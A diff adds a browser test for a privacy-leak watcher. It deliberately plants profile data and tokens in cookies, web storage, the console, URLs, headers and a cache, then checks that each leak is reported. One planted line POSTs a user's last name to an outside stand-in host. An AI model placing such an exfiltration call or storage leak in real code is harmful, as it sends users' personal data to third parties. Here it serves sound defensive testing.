@@ -1,0 +1,52 @@
+import { profileMark } from '../../support/privacy-rules.ts';
+import { watchPrivacy } from '../support/privacy.ts';
+import { host } from '../support/service-host.ts';
+import { expect, site, test } from '../support/test.ts';
+
+// A context of its own: what is planted here must not fail the test by its own watch.
+test('the watch of every test sees what is planted', async ({ browser }) => {
+  const context = await browser.newContext({ baseURL: site });
+  const findLeaks = watchPrivacy(context, { site, host: new URL(host).origin });
+  await context.route('**/planted', (route) =>
+    route.fulfill({ status: 404, contentType: 'text/html', body: profileMark.last_name.toUpperCase() }),
+  );
+  const closed = await context.newPage();
+  await closed.goto('/planted');
+  await closed.evaluate(({ phone }) => sessionStorage.setItem('closed', phone), profileMark);
+  await closed.close();
+  const page = await context.newPage();
+  await page.goto('/planted');
+  await page.evaluate(async ({ last_name }) => {
+    const token = crypto.randomUUID();
+    const send = (url: string, init?: RequestInit) => fetch(url, init).catch(() => undefined);
+    // Nobody knows yet that it is a token.
+    await send(`/planted?token=${token}`);
+    await send('/planted', { headers: { authorization: `Bearer ${token}` } });
+    await send('https://elsewhere.example/', { method: 'POST', body: last_name, mode: 'no-cors' });
+    console.log(last_name);
+    history.replaceState(null, '', `/shallow#${last_name}`);
+    localStorage.setItem('kelana.token', token);
+    sessionStorage.setItem('token', token);
+    // biome-ignore lint/suspicious/noDocumentCookie: a leak is planted
+    document.cookie = `name=${last_name}`;
+    await caches.open('pages');
+  }, profileMark);
+  expect((await findLeaks()).sort()).toEqual(
+    [
+      'a profile in a request to https://elsewhere.example/',
+      `a profile in the address ${site}/shallow`,
+      `a profile in the answer of ${site}/planted`,
+      'a profile in the console',
+      'a profile kept as cookie name',
+      'a profile kept as session closed',
+      `a token in the address ${site}/planted`,
+      'a token kept as session token',
+      'an entry that the register does not list: cookie name',
+      'an entry that the register does not list: session closed',
+      'an entry that the register does not list: session token',
+      `an Authorization header to ${site}/planted`,
+      'the cache pages',
+    ].sort(),
+  );
+  await context.close();
+});
